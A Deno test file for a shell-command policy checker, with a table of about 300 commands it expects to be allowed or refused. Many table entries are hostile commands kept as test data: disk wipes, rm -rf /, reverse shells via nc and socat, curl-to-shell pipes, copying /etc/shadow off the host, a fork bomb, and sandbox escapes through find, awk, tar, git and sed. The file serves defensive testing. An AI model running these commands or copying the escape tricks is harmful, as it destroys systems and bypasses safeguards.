import assert from "node:assert/strict";
import { judge } from "../lib/policy/judge.ts";
import { DEFAULT_POLICY, loadPolicy, parsePolicy, type Policy } from "../lib/policy/policy_file.ts";
import { checkCommand } from "../lib/policy/check.ts";
import { ARG_RULES, argumentEscapes } from "../lib/policy/arg_rules.ts";
import { policyCommand } from "../lib/cli/policy.ts";
import { runMain } from "./support/cli.ts";

// The table and the bin-dir builder are shared with policy_canary_test.ts; the
// tests below register only when this file is the one being run.
const MAIN = import.meta.url === Deno.mainModule;
function test(name: string, fn: () => void | Promise<void>): void {
  if (MAIN) Deno.test(name, fn);
}

/** Programs placed in the test bin dir (real binaries where the host has them). */
export const PROGRAMS: string[] = `
  uptime df free journalctl ps ls whoami hostname date echo cat uname systemctl find awk gawk
  mawk tar git sed curl wget rm mv cp dd tee chmod chown shred du grep head tail printf sort
  split rsync zip tcpdump ip busctl reboot shutdown poweroff halt init telinit mkfs mkfs.ext4
  fdisk sfdisk parted wipefs blkdiscard sh bash dash zsh python3 python3.11 perl ruby node php
  lua busybox env nice ionice timeout nohup setsid stdbuf xargs chroot flock watch time strace
  gdb script crontab at less more man vi vim nano ed view passwd useradd userdel usermod
  groupadd chpasswd visudo sudo su doas pkexec ssh scp nc ncat socat telnet insmod modprobe
  sqlite3 psql openssl patch cpio pax uudecode base64 wc
`.trim().split(/\s+/);

/** Extra bin-dir entries: innocent names linked to another program of the list. */
export const ALIASES: Record<string, string> = {
  innocent: "bash", // a harmless name must not hide a shell
  shortcut: "systemctl", // systemctl's rules follow the target
  lister: "busybox", // busybox acts by argv[0]: judged as "lister"
};

/**
 * `#!/bin/sh` stub that leaves a marker in $CANARY_DIR if it ever runs. Only
 * shell built-ins: the child's PATH is the bin dir, which holds no `touch`.
 */
export const CANARY_SCRIPT = '#!/bin/sh\n: > "$CANARY_DIR/${0##*/}-ran"\n';

async function systemBinary(name: string): Promise<string | null> {
  for (const dir of ["/usr/bin", "/bin", "/usr/sbin", "/sbin"]) {
    const info = await Deno.stat(`${dir}/${name}`).catch(() => null);
    if (info?.isFile) return `${dir}/${name}`;
  }
  return null;
}

/**
 * Builds `<root>/bin` with every program of {@linkcode PROGRAMS} and
 * {@linkcode ALIASES} as a symlink. Targets are the real system binaries when
 * `stubsOnly` is false and the host has them, else canary stubs in
 * `<root>/targets`. The policy judges names, not behaviour, so both give the
 * same verdicts.
 */
export async function makeBinDir(stubsOnly: boolean): Promise<{ root: string; bin: string }> {
  const root = await Deno.makeTempDir({ prefix: "tibet-nc-policy-" });
  const bin = `${root}/bin`;
  await Deno.mkdir(bin);
  await Deno.mkdir(`${root}/targets`);
  const targets = new Map<string, string>();
  for (const name of PROGRAMS) {
    let target = stubsOnly ? null : await systemBinary(name);
    if (target === null) {
      target = `${root}/targets/${name}`;
      await Deno.writeTextFile(target, CANARY_SCRIPT);
      await Deno.chmod(target, 0o755);
    }
    targets.set(name, target);
    await Deno.symlink(target, `${bin}/${name}`);
  }
  for (const [alias, name] of Object.entries(ALIASES)) {
    await Deno.symlink(targets.get(name)!, `${bin}/${alias}`);
  }
  return { root, bin };
}

/** Replaces `{bin}` in a case's text with the test bin dir. */
export const withBin = (text: string, bin: string): string => text.replaceAll("{bin}", bin);

/** One case: command text -> "allow" or the expected deny rule (prefix). */
export type Case = [text: string, expected: string];

const LONG = "echo " + "a".repeat(10_000);
const MANY = "echo" + " x".repeat(300);

/** The policy table: every family the policy denies, with obfuscations. */
export const CASES: Case[] = [
  // --- allowed: the everyday diagnostics of the brief and ordinary commands
  ["df -h", "allow"],
  ["env", "allow"], // alone it only lists the environment
  ["env -0", "allow"],
  ["uptime", "allow"],
  ["free -m", "allow"],
  ["journalctl --user -n 50", "allow"],
  ["ps aux", "allow"],
  ["ls -la", "allow"],
  ["whoami", "allow"],
  ["hostname", "allow"],
  ["date", "allow"],
  ["echo hello", "allow"],
  ["cat /etc/hostname", "allow"],
  ["uname -a", "allow"],
  ["systemctl status nginx", "allow"],
  ["systemctl status sshd.service", "allow"],
  ["systemctl --no-pager status nginx", "allow"],
  ["systemctl list-units --failed", "allow"],
  ["systemctl is-active nginx", "allow"],
  ["journalctl -u nginx --since today --no-pager", "allow"],
  ["find /var/log -name x", "allow"],
  ["find /var/log -name '*.log' -mtime +7", "allow"],
  ["echo héllo", "allow"],
  ["echo 日本語", "allow"],
  ["echo '$(id)'", "allow"],
  ["echo ';'", "allow"],
  ["echo 'a && b'", "allow"],
  ["echo $HOME ~ *", "allow"],
  ["ls /etc/*.conf", "allow"],
  ["  uptime  ", "allow"],
  ["uptime\n", "allow"],
  ["{bin}/uptime", "allow"],
  ["du -sh /var/log", "allow"],
  ["grep -r error /var/log/syslog", "allow"],
  ["head -n 5 /etc/passwd", "allow"],
  ["tail -n 20 /var/log/syslog", "allow"],
  ["ps -ef", "allow"],
  ["df -h /", "allow"],
  ["git log --oneline -5", "allow"],
  ["git log -p", "allow"],
  ["git -C /srv/repo status", "allow"],
  ["git --no-pager diff", "allow"],
  ["tar -tzf /tmp/x.tgz", "allow"],
  ["tar -czf /tmp/etc.tgz /etc", "allow"],
  ["tar xzf /tmp/x.tgz", "allow"],
  ["tar --checkpoint=100 -cf /tmp/x.tar /tmp/d", "allow"],
  ["sed -n 1,5p /etc/hostname", "allow"],
  ["sed -n '/error/I p' /var/log/syslog", "allow"],
  ["sed 's/a/b/g' /etc/hostname", "allow"],
  ["sed ':a;N;$!ba;s/\\n/ /g' /etc/hostname", "allow"],
  ["sed 'y/abc/xyz/' /etc/hostname", "allow"],
  ["sed -i.bak 's/x/y/' /tmp/file", "allow"],
  ["sed --sandbox 's/a/b/e' /tmp/x", "allow"],
  ["awk '{print $1}' /etc/hostname", "allow"],
  ["awk -F: '{print $1}' /etc/passwd", "allow"],
  ["awk -F'|' '{print $2}' /tmp/x", "allow"],
  ["curl -s https://example.com", "allow"],
  ["curl -o /tmp/x https://example.com", "allow"],
  ["wget -qO- https://example.com", "allow"],
  ["rm /tmp/file", "allow"],
  ["rm -rf /home/user/tmp", "allow"],
  ["rm -rf ./build", "allow"],
  ["mv /tmp/a /tmp/b", "allow"],
  ["chmod 644 /tmp/x", "allow"],
  ["chown -R user /home/user/www", "allow"],
  ["dd if=/tmp/a of=/tmp/b", "allow"],
  ["cp /etc/hostname /tmp/h", "allow"],
  ["sort -u /tmp/x", "allow"],
  ["rsync -a /srv/a/ /srv/b/", "allow"],
  ["ip addr", "allow"],
  ["lister -la", "allow"],
  ["echo '|' reboot", "allow"],

  // --- power: direct, quoted, escaped, paths, case, Unicode, wrappers
  ["reboot", "deny.power"],
  ['"reboot"', "deny.power"],
  ["'re''boot'", "deny.power"],
  ["re\\boot", "deny.power"],
  ["  reboot  ", "deny.power"],
  ["\treboot", "deny.power"],
  ["reboot\n", "deny.power"],
  ["/sbin/reboot", "deny.power"],
  ["/usr/sbin/reboot", "deny.power"],
  ["//sbin//reboot", "deny.power"],
  ["./reboot", "deny.power"],
  ["../bin/reboot", "deny.power"],
  ["{bin}/reboot", "deny.power"],
  ["REBOOT", "deny.power"],
  ["ReBoOt", "deny.power"],
  ["Shutdown -h now", "deny.power"],
  ["shutdown -r +5", "deny.power"],
  ["shutdown now", "deny.power"],
  ["poweroff --force", "deny.power"],
  ["halt -f", "deny.power"],
  ["init 0", "deny.power"],
  ["init 6", "deny.power"],
  ["telinit 6", "deny.power"],
  ["systemctl poweroff", "deny.power"],
  ["systemctl reboot", "deny.power"],
  ["systemctl --force reboot", "deny.power"],
  ["systemctl --force --force poweroff", "deny.power"],
  ["systemctl halt", "deny.power"],
  ["systemctl kexec", "deny.power"],
  ["systemctl suspend", "deny.power"],
  ["systemctl hibernate", "deny.power"],
  ["systemctl rescue", "deny.power"],
  ["systemctl emergency", "deny.power"],
  ["systemctl isolate multi-user.target", "deny.power"],
  ["systemctl default", "deny.power"],
  ["systemctl start reboot.target", "deny.power"],
  ["systemctl set-default rescue.target", "deny.power"],
  ["systemctl -i status", "deny.power"],
  ["systemctl POWEROFF", "deny.power"],
  ["SYSTEMCTL poweroff", "deny.power"],
  ["shortcut reboot", "deny.power"],
  [
    "busctl call org.freedesktop.login1 /org/freedesktop/login1 x.Manager PowerOff b 0",
    "deny.power",
  ],
  ["tee /proc/sysrq-trigger", "deny.power"],
  ["ｒｅｂｏｏｔ", "deny.power"],
  ["ＳＨＵＴＤＯＷＮ now", "deny.power"],

  // --- Unicode that hides what runs
  ["reb\u200boot", "deny.unicode"],
  ["re\u200dboot", "deny.unicode"],
  ["reb\u043eot", "deny.unicode"], // Cyrillic о
  ["\u202ereboot", "deny.unicode"],
  ["reboot\u00a0now", "deny.unicode"],
  ["ls\u00ad", "deny.unicode"],
  ["echo a\u200bb", "deny.unicode"],
  ["systemctl status ngin\u2066x", "deny.unicode"],
  ["\ufeffuptime", "deny.unicode"],

  // --- wrappers: refused outright, whatever they run
  ["env reboot", "deny.wrapper"],
  ["env -i PATH=/x reboot", "deny.wrapper"],
  ["env -u HOME", "deny.wrapper"],
  ["env FOO=1", "deny.wrapper"],
  ["nice -n 5 reboot", "deny.wrapper"],
  ["ionice -c3 reboot", "deny.wrapper"],
  ["timeout 5 shutdown now", "deny.wrapper"],
  ["nohup reboot", "deny.wrapper"],
  ["setsid reboot", "deny.wrapper"],
  ["stdbuf -o0 reboot", "deny.wrapper"],
  ["xargs rm", "deny.wrapper"],
  ["chroot / reboot", "deny.wrapper"],
  ["flock /tmp/l reboot", "deny.wrapper"],
  ["watch reboot", "deny.wrapper"],
  ["time reboot", "deny.wrapper"],
  ["strace reboot", "deny.wrapper"],
  ["gdb -batch -ex 'shell id'", "deny.wrapper"],
  ["script -c id /dev/null", "deny.wrapper"],
  ["crontab -r", "deny.wrapper"],
  ["at now", "deny.wrapper"],
  ["ＥＮＶ reboot", "deny.wrapper"],
  ["ip netns exec x sh", "deny.wrapper"],

  // --- privilege and user management
  ["sudo reboot", "deny.privilege"],
  ["su -c reboot", "deny.privilege"],
  ["doas reboot", "deny.privilege"],
  ["pkexec reboot", "deny.privilege"],
  ["passwd root", "deny.user-mgmt"],
  ["passwd", "deny.user-mgmt"],
  ["useradd x", "deny.user-mgmt"],
  ["userdel -r x", "deny.user-mgmt"],
  ["usermod -aG sudo x", "deny.user-mgmt"],
  ["groupadd g", "deny.user-mgmt"],
  ["chpasswd", "deny.user-mgmt"],
  ["visudo", "deny.user-mgmt"],

  // --- disks
  ["mkfs.ext4 /dev/sda1", "deny.disk"],
  ["mkfs -t ext4 /dev/sdb", "deny.disk"],
  ["fdisk /dev/sda", "deny.disk"],
  ["fdisk -l", "deny.disk"],
  ["sfdisk /dev/sda", "deny.disk"],
  ["parted /dev/sda rm 1", "deny.disk"],
  ["wipefs -a /dev/sda", "deny.disk"],
  ["blkdiscard /dev/nvme0n1", "deny.disk"],
  ["dd if=/dev/zero of=/dev/sda", "deny.disk"],
  ["dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "deny.disk"],
  ["dd if=/tmp/img of=/dev/mmcblk0", "deny.disk"],
  ["dd if=/dev/zero of=/tmp/x", "deny.disk"],
  ["dd of=/dev/vda", "deny.disk"],
  ["tee /dev/sda", "deny.disk"],
  ["cp /tmp/x /dev/vda", "deny.disk"],
  ["shred /dev/sda", "deny.disk"],
  ["shred -n 1 /dev/mapper/root", "deny.disk"],

  // --- shells and interpreters
  ["bash -c id", "deny.shell"],
  ["sh", "deny.shell"],
  ["sh -c reboot", "deny.shell"],
  ['"bash"', "deny.shell"],
  ["b\\ash -i", "deny.shell"],
  ["BASH", "deny.shell"],
  ["/bin/bash", "deny.shell"],
  ["dash", "deny.shell"],
  ["zsh", "deny.shell"],
  ["python3 -c 'import os; os.system(\"id\")'", "deny.shell"],
  ["python3.11 -c 1", "deny.shell"],
  ["perl -e 'exec \"/bin/sh\"'", "deny.shell"],
  ["ruby -e 'exec \"sh\"'", "deny.shell"],
  ["node -e 'require(\"child_process\")'", "deny.shell"],
  ["php -r 'system(\"id\");'", "deny.shell"],
  ["lua -e 'os.execute(\"id\")'", "deny.shell"],
  ["busybox sh", "deny.shell"],
  ["innocent -c id", "deny.shell"],
  ["ｓｈ", "deny.shell"],

  // --- recursive deletion of / and top-level dirs
  ["rm -rf /", "deny.rm-root"],
  ["rm -r -f /etc", "deny.rm-root"],
  ["rm -fr /*", "deny.rm-root"],
  ["rm --recursive --force /usr/", "deny.rm-root"],
  ["rm -rf //", "deny.rm-root"],
  ["rm -Rf /var/log/../..", "deny.rm-root"],
  ["rm / -rf", "deny.rm-root"],
  ["rm --rec /etc", "deny.rm-root"],
  ["rm -rf /usr/*", "deny.rm-root"],
  ["rm -rf /home/*", "deny.rm-root"],
  ["rm -r ../../..", "deny.rm-root"],
  ["rm -rf -- /boot", "deny.rm-root"],
  ["rm --no-preserve-root -rf /home/x", "deny.rm-root"],
  ["mv /etc /tmp/x", "deny.rm-root"],
  ["chmod -R 777 /", "deny.chmod-root"],
  ["chown -R nobody /etc", "deny.chmod-root"],

  // --- find, awk, tar, git, sed escapes
  ["find . -exec sh \\;", "deny.escape.find-exec"],
  ["find / -execdir id \\;", "deny.escape.find-exec"],
  ["find . -ok rm {} \\;", "deny.escape.find-exec"],
  ["find /tmp -delete", "deny.escape.find-write"],
  ["find . -fprintf /tmp/x %p", "deny.escape.find-write"],
  ["awk 'BEGIN{system(\"id\")}'", "deny.escape.awk"],
  ["awk 'BEGIN { system (\"id\") }'", "deny.escape.awk"],
  ["awk '{print | \"sh\"}' /etc/hostname", "deny.escape.awk"],
  ["awk 'BEGIN{\"id\" | getline x; print x}'", "deny.escape.awk"],
  ["awk -f /tmp/x.awk", "deny.escape.awk"],
  ["gawk --field-separator x 'BEGIN{system(\"id\")}'", "deny.escape.awk"],
  ["awk -- 'BEGIN{system(\"id\")}'", "deny.escape.awk"],
  ['gawk \'BEGIN{f="system"; @f("id")}\'', "deny.escape.awk"],
  ["mawk -W exec /tmp/x", "deny.escape.awk"],
  ["tar --checkpoint-action=exec=sh", "deny.escape.tar"],
  ["tar -cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec=sh", "deny.escape.tar"],
  ["tar --to-command=sh -xf x.tar", "deny.escape.tar"],
  ["tar -I sh -cf x.tar /tmp", "deny.escape.tar"],
  ["tar --use-compress-program=sh -cf x /tmp", "deny.escape.tar"],
  ["tar --use=sh -cf x /tmp", "deny.escape.tar"],
  ["tar -F sh -cf x /tmp", "deny.escape.tar"],
  ["tar cIf sh x /tmp", "deny.escape.tar"],
  ["tar --rsh-command=/bin/sh -cf h:x /tmp", "deny.escape.tar"],
  ["git -c core.pager=sh log", "deny.escape.git"],
  ["git -c core.sshCommand=sh fetch", "deny.escape.git"],
  ["git --config-env=core.pager=X log", "deny.escape.git"],
  ["git -p log", "deny.escape.git"],
  ["git --attr-source HEAD config core.pager sh", "deny.escape.git"],
  ["git --frobnicate x config core.pager sh", "deny.escape.git"],
  ["git --paginate log", "deny.escape.git"],
  ["git --exec-path=/tmp log", "deny.escape.git"],
  ["git config core.pager sh", "deny.escape.git"],
  ["git help log", "deny.escape.git"],
  ["git log --help", "deny.escape.git"],
  ["git difftool", "deny.escape.git"],
  ["git mergetool", "deny.escape.git"],
  ["git submodule foreach id", "deny.escape.git"],
  ["git filter-branch --tree-filter id", "deny.escape.git"],
  ["git rebase --exec id HEAD~1", "deny.escape.git"],
  ["git rebase -i HEAD~2", "deny.escape.git"],
  ["git bisect run sh", "deny.escape.git"],
  ["git clone --upload-pack=sh x", "deny.escape.git"],
  ["git clone -u sh x", "deny.escape.git"],
  ["git fetch --upload-pack=id origin", "deny.escape.git"],
  ["git grep -O id", "deny.escape.git"],
  ["git archive --remote=x --exec=sh", "deny.escape.git"],
  ["sed 's/a/b/e' /tmp/x", "deny.escape.sed"],
  ["sed -n '1e id' /tmp/x", "deny.escape.sed"],
  ["sed -e 's/x/y/w /tmp/out' /tmp/x", "deny.escape.sed"],
  ["sed 'w /etc/x' /tmp/x", "deny.escape.sed"],
  ["sed --expression='e id' /tmp/x", "deny.escape.sed"],
  ["sed -f /tmp/x.sed /tmp/x", "deny.escape.sed"],
  ["sed 's/[/]/x/e' /tmp/x", "deny.escape.sed"],
  ["sed 's/[\\]/x/e;s/]//' /tmp/x", "deny.escape.sed"],
  ["sed -e 'a\\' -e 'e id' /tmp/x", "deny.escape.sed"],
  ["sed -s -- 'e id' /tmp/x", "deny.escape.sed"],
  ["sed -n -l 5 '1e id' /tmp/x", "deny.escape.sed"],

  // --- pagers and editors, and arguments that set one
  ["less /etc/passwd", "deny.escape.pager"],
  ["more /etc/passwd", "deny.escape.pager"],
  ["man ls", "deny.escape.pager"],
  ["journalctl --pager=sh", "deny.escape.pager"],
  ["systemctl SYSTEMD_PAGER=sh status", "deny.escape.pager"],
  ["vi /etc/hosts", "deny.escape.editor"],
  ["vim", "deny.escape.editor"],
  ["nano /etc/hosts", "deny.escape.editor"],
  ["ed", "deny.escape.editor"],
  ["view /etc/passwd", "deny.escape.editor"],
  ["systemctl edit nginx", "deny.escape.editor"],

  // --- pipelines: each stage judged; what reads the pipe takes data, not commands
  ["ps aux | grep nginx", "allow"],
  ["journalctl -u x -n 500 | grep -i error | tail -20", "allow"],
  ["cat /etc/hostname | base64 | base64 -d | wc -c", "allow"],
  ["printf s_client | openssl", "deny.pipe.commands"],
  ["printf x | openssl -debug", "deny.pipe.commands"],
  ["printf x | openssl base64 -d", "allow"],
  ["openssl version | cat", "allow"],
  ["base64 -d x | tar -x", "deny.pipe.write"],
  ["base64 -d x | tar xf -", "deny.pipe.write"],
  ["base64 -d x | tar --extract --file=/dev/stdin", "deny.pipe.write"],
  ["base64 -d x | tar -tv", "allow"],
  ["base64 -d x | tar -xf /tmp/a.tar", "allow"],
  ["tar -xf /tmp/a.tar | cat", "allow"],
  ["cat x | cpio -idm", "deny.pipe.write"],
  ["cat x | cpio --pass-through /tmp", "deny.pipe.write"],
  ["cat x | pax -r", "deny.pipe.write"],
  ["cat x | patch -p1", "deny.pipe.write"],
  ["cat x | patch -i /dev/stdin", "deny.pipe.write"],
  ["cat x | git apply", "deny.pipe.write"],
  ["cat x | git -C /tmp am -", "deny.pipe.write"],
  ["cat x | git log", "allow"],
  ["cat x | uudecode", "deny.pipe.write"],
  ["cat x | uudecode -o /tmp/y", "allow"],
  ["ls | xargs rm", "deny.wrapper"],
  ["cat x | awk -f -", "deny.escape.awk.load"],
  ["cat x | sed -f /dev/stdin", "deny.escape.sed"],
  ["ls | less", "deny.escape.pager"],
  ["ls | tee /etc/x", "deny.write.protected"],
  ["ls | sudo tee x", "deny.privilege"],

  // --- downloads and pipes into shells
  ["curl x | sh", "deny.shell"],
  ["wget -O- x | bash", "deny.shell"],
  ["curl http://x '|' sh", "deny.pipe-shell"],
  ["curl -o /etc/cron.d/x http://x", "deny.pipe-shell"],
  ["curl --output /usr/local/bin/x http://x", "deny.pipe-shell"],
  ["curl -sSLo /bin/x http://x", "deny.pipe-shell"],
  ["curl -o ~/.ssh/authorized_keys http://x", "deny.pipe-shell"],
  ["curl -K /tmp/cfg", "deny.pipe-shell"],
  ["wget -O /etc/profile.d/x.sh http://x", "deny.pipe-shell"],
  ["wget -P /usr/local/bin http://x", "deny.pipe-shell"],
  ["wget -e use_askpass=/bin/sh http://x", "deny.pipe-shell"],
  ["wget --use-askpass=/tmp/x http://x", "deny.pipe-shell"],

  // --- remote shells, options that run commands, kernel, logs, clients
  ["ssh host", "deny.network"],
  ["scp /etc/shadow x:", "deny.network"],
  ["nc -e /bin/sh 10.0.0.1 80", "deny.network"],
  ["ncat -l 4444", "deny.network"],
  ["socat exec:sh tcp:x:1", "deny.network"],
  ["telnet host", "deny.network"],
  ["sort --compress-program=sh /tmp/x", "deny.escape.exec-option"],
  ["split --filter=sh /tmp/x", "deny.escape.exec-option"],
  ["zip /tmp/x.zip /etc/hostname -T -TT 'sh #'", "deny.escape.exec-option"],
  ["rsync -e 'sh -c id' x y", "deny.escape.exec-option"],
  ["tcpdump -z /tmp/x -w /tmp/y", "deny.escape.exec-option"],
  ["insmod /tmp/x.ko", "deny.kernel"],
  ["modprobe -r x", "deny.kernel"],
  ["journalctl --vacuum-time=1s", "deny.logs"],
  ["journalctl --rotate", "deny.logs"],
  ["sqlite3", "deny.escape.interactive"],
  ["psql", "deny.escape.interactive"],

  // --- the parser: shell syntax, bombs, limits, controls
  ["uptime; reboot", "deny.parse"],
  ["uptime && reboot", "deny.parse"],
  ["uptime || reboot", "deny.parse"],
  ["reboot &", "deny.parse"],
  ["echo $(reboot)", "deny.parse"],
  ["echo `reboot`", "deny.parse"],
  ["echo x > /etc/passwd", "deny.parse"],
  ["cat < /etc/shadow", "deny.parse"],
  [":(){ :|:& };:", "deny.parse"],
  ["uptime\nreboot", "deny.parse"],
  ["echo 'unterminated", "deny.parse"],
  ["", "deny.parse"],
  ["   ", "deny.parse"],
  ["echo a\0b", "deny.parse"],
  ["echo \x1b[2J", "deny.parse"],
  [LONG, "deny.parse"],
  [MANY, "deny.parse"],

  // --- the bin dir: anything else is not a program here
  ["/usr/bin/uptime", "deny.resolve"],
  ["./uptime", "deny.resolve"],
  ["{bin}/../bin/uptime", "deny.resolve"],
  ["nosuchprogram", "deny.resolve"],
  ["UPTIME", "deny.resolve"],
];

test("policy table: at least 150 cases, covering every built-in deny family", () => {
  assert.ok(CASES.length >= 150, `only ${CASES.length} cases`);
  const rules = new Set(CASES.map(([, e]) => e));
  for (
    const r of [
      "deny.power",
      "deny.disk",
      "deny.shell",
      "deny.wrapper",
      "deny.user-mgmt",
      "deny.rm-root",
      "deny.pipe-shell",
      "deny.unicode",
      "deny.escape.find-exec",
      "deny.parse",
      "deny.resolve",
    ]
  ) assert.ok(rules.has(r), `no case for ${r}`);
});

test("policy table: every case gets the expected verdict and rule (real binaries)", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const wrong: string[] = [];
    for (const [text, expected] of CASES) {
      const v = await checkCommand(withBin(text, bin), bin, DEFAULT_POLICY);
      const good = expected === "allow"
        ? v.verdict === "allow"
        : v.verdict === "deny" && v.rule.startsWith(expected);
      if (!good) {
        wrong.push(
          `${JSON.stringify(text.slice(0, 80))}: want ${expected}, got ${v.rule} (${v.reason})`,
        );
      }
    }
    assert.deepEqual(wrong, []);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("policy: every denial carries a reason the operator can read", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    for (const [text, expected] of CASES.filter(([, e]) => e !== "allow")) {
      const v = await checkCommand(withBin(text, bin), bin, DEFAULT_POLICY);
      assert.ok(v.reason.length > 10, `${expected}: "${v.reason}"`);
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("checkCommand: returns the argv and bin-dir path it judged, for the executor", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const ok = await checkCommand("ls -la '/tmp/a b'", bin, DEFAULT_POLICY);
    assert.deepEqual([ok.verdict, ok.stages?.map((s) => [s.argv, s.path])], [
      "allow",
      [[["ls", "-la", "/tmp/a b"], `${bin}/ls`]],
    ]);
    const missing = await checkCommand("nosuch x", bin, DEFAULT_POLICY);
    assert.deepEqual([missing.rule, missing.stages?.map((s) => [s.argv, s.path])], [
      "deny.resolve",
      [[["nosuch", "x"], undefined]],
    ]);
    const bad = await checkCommand("a;b", bin, DEFAULT_POLICY);
    assert.deepEqual([bad.rule, bad.stages], ["deny.parse", undefined]);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

test("checkCommand: a pipeline is judged stage by stage; one refused stage refuses the line", async () => {
  const { root, bin } = await makeBinDir(false);
  try {
    const ok = await checkCommand("ls -la / | grep -i tmp | head -3", bin, DEFAULT_POLICY);
    assert.equal(ok.verdict, "allow");
    assert.equal(ok.rule, "allow.default | allow.default | allow.default");
    assert.deepEqual(ok.stages?.map((s) => s.path), [`${bin}/ls`, `${bin}/grep`, `${bin}/head`]);
    const cases: [string, string, RegExp][] = [
      ["ls | sh", "deny.shell", /stage 2 of 2 \(sh\)/],
      [
        "ls | grep x | xargs rm",
        "deny.wrapper",
        /stage 3 of 3 \(xargs\).*nothing in the pipeline runs/,
      ],
      ["ls | nosuch", "deny.resolve", /stage 2 of 2/],
      ["ls | tee /etc/passwd", "deny.write.protected", /stage 2/],
      ["reboot | ls", "deny.power", /stage 1 of 2/],
    ];
    for (const [text, rule, reason] of cases) {
      const v = await checkCommand(text, bin, DEFAULT_POLICY);
      assert.equal(v.rule, rule, text);
      assert.match(v.reason, reason, text);
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

// ------------------------------------------------------------------ judge

const ctx = (name: string, realName = name) => ({ name, realName });

test("judge: a link is judged under its target's name (ls -> bash is a shell)", () => {
  const v = judge(["ls", "-la"], ctx("ls", "bash"), DEFAULT_POLICY);
  assert.equal(v.rule, "deny.shell");
  assert.match(v.reason, /"ls" \(a link to bash\)/);
  assert.equal(judge(["ls", "-la"], ctx("ls", "ls"), DEFAULT_POLICY).verdict, "allow");
});

test("judge: version suffixes and alternatives names are matched (python3.11, vim.basic)", () => {
  assert.equal(judge(["py"], ctx("py", "python3.11"), DEFAULT_POLICY).rule, "deny.shell");
  assert.equal(
    judge(["edit"], ctx("edit", "vim.basic"), DEFAULT_POLICY).rule,
    "deny.escape.editor",
  );
  assert.equal(judge(["x"], ctx("x", "ld-linux-x86-64.so.2"), DEFAULT_POLICY).rule, "deny.wrapper");
  assert.equal(judge(["mkfs.xfs"], ctx("mkfs.xfs"), DEFAULT_POLICY).rule, "deny.disk");
});

test("judge: a busybox link is judged by its own name, busybox itself is a shell", () => {
  assert.equal(judge(["ls"], ctx("ls", "busybox"), DEFAULT_POLICY).verdict, "allow");
  assert.equal(judge(["sh"], ctx("sh", "busybox"), DEFAULT_POLICY).rule, "deny.shell");
  assert.equal(judge(["busybox", "ls"], ctx("busybox"), DEFAULT_POLICY).rule, "deny.shell");
});

test("judge: a systemd multi-call link named reboot is refused by its name", () => {
  assert.equal(judge(["reboot"], ctx("reboot", "systemctl"), DEFAULT_POLICY).rule, "deny.power");
});

test("judge: an empty argv is refused as deny.parse", () => {
  assert.equal(judge([], ctx("x"), DEFAULT_POLICY).rule, "deny.parse");
});

// -------------------------------------------------------------- policy file

const strict = (doc: unknown): Policy => parsePolicy(doc, "/etc/tibet-nc/policy.json");

test("policy file: allowlist mode runs only matching commands", () => {
  const p = strict({ mode: "allowlist", allow: ["df **", "systemctl status *", "uptime"] });
  assert.equal(judge(["df", "-h"], ctx("df"), p).rule, "allow.policy:df **");
  assert.equal(judge(["df"], ctx("df"), p).rule, "allow.policy:df **");
  assert.equal(judge(["systemctl", "status", "nginx"], ctx("systemctl"), p).verdict, "allow");
  assert.equal(judge(["systemctl", "status"], ctx("systemctl"), p).rule, "deny.not-allowlisted");
  assert.equal(judge(["systemctl", "status", "a", "b"], ctx("systemctl"), p).verdict, "deny");
  assert.equal(judge(["uptime", "-p"], ctx("uptime"), p).rule, "deny.not-allowlisted");
  assert.match(judge(["ls"], ctx("ls"), p).reason, /allowlist mode, \/etc\/tibet-nc\/policy.json/);
});

test("policy file: built-in deny rules win over any allow pattern", () => {
  const p = strict({
    mode: "allowlist",
    allow: ["systemctl **", "reboot **", "bash **", "rm **", "find **"],
  });
  assert.equal(judge(["systemctl", "reboot"], ctx("systemctl"), p).rule, "deny.power");
  assert.equal(judge(["reboot"], ctx("reboot"), p).rule, "deny.power");
  assert.equal(judge(["bash"], ctx("bash"), p).rule, "deny.shell");
  assert.equal(judge(["rm", "-rf", "/"], ctx("rm"), p).rule, "deny.rm-root");
  assert.equal(
    judge(["find", ".", "-exec", "id", ";"], ctx("find"), p).rule,
    "deny.escape.find-exec",
  );
});

test("policy file: deny patterns refuse, matched under the target name too", () => {
  const p = strict({ mode: "denylist", deny: ["cat /etc/shadow", "journalctl -f **"] });
  assert.equal(judge(["cat", "/etc/shadow"], ctx("cat"), p).rule, "deny.policy:cat /etc/shadow");
  assert.equal(judge(["kitty", "/etc/shadow"], ctx("kitty", "cat"), p).verdict, "deny");
  assert.equal(judge(["journalctl", "-f", "-u", "x"], ctx("journalctl"), p).verdict, "deny");
  assert.equal(judge(["cat", "/etc/hostname"], ctx("cat"), p).rule, "allow.default");
});

test("policy file: program names in patterns match case-insensitively, arguments exactly", () => {
  const p = strict({ mode: "allowlist", allow: ["DF -h"] });
  assert.equal(judge(["df", "-h"], ctx("df"), p).verdict, "allow");
  assert.equal(judge(["df", "-H"], ctx("df"), p).verdict, "deny");
});

test("policy file: invalid documents are refused with the file name and the problem", () => {
  const bad: Array<[unknown, RegExp]> = [
    [[], /must be a JSON object/],
    [{ mode: "denylist", extra: 1 }, /unknown key "extra"/],
    [{ allow: ["df"] }, /"mode" must be "denylist" or "allowlist", not null/],
    [{ mode: "permissive" }, /"mode" must be/],
    [{ mode: "allowlist", allow: "df" }, /"allow" must be an array of strings/],
    [{ mode: "allowlist", allow: [1] }, /"allow"\[0\] must be a string/],
    [{ mode: "allowlist", allow: ["  "] }, /"allow"\[0\] is empty/],
    [{ mode: "denylist", deny: ["* -rf"] }, /first word must be a program name/],
    [{ mode: "denylist", deny: ["/bin/rm -rf"] }, /first word must be a program name/],
    [{ mode: "allowlist", allow: ["df ** -h"] }, /"\*\*" may only be the last word/],
    [{ mode: "allowlist", allow: ["df -h*"] }, /matches whole words only/],
  ];
  for (const [doc, re] of bad) {
    assert.throws(() => strict(doc), (e: Error) => {
      assert.match(e.message, /^policy file \/etc\/tibet-nc\/policy.json: /);
      assert.match(e.message, re);
      return true;
    });
  }
});

test("loadPolicy: no path gives the default denylist policy", async () => {
  const p = await loadPolicy();
  assert.equal(p.mode, "denylist");
  assert.equal(p.source, null);
});

